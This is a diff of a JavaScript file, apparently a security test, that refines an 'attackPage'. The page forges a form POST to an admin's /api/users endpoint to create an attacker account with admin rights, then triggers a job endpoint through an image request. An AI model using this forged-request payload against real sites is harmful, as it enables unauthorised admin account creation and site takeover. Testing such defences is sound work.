@@ -56,8 +56,11 @@ const attackPage = `<!doctype html><meta charset="utf-8"><title>attack</title>
     const form = document.getElementById('f')
     form.action = admin + '/api/users'
     form.elements._payload.value = JSON.stringify({ email: 'evil-form@attacker.example', password: 'evil-password-3', roles: ['admin'] })
+    // The form's answer landing in the frame (whatever it says) means the admin has handled the POST.
+    const sink = document.querySelector('iframe[name="sink"]')
+    const answered = new Promise((resolve) => sink.addEventListener('load', resolve, { once: true }))
     form.submit()
-    await new Promise((resolve) => setTimeout(resolve, 1500))
+    await answered
     const img = new Image()
     img.src = admin + '/api/payload-jobs/run?queue=site'
     await new Promise((resolve) => { img.onload = img.onerror = resolve })
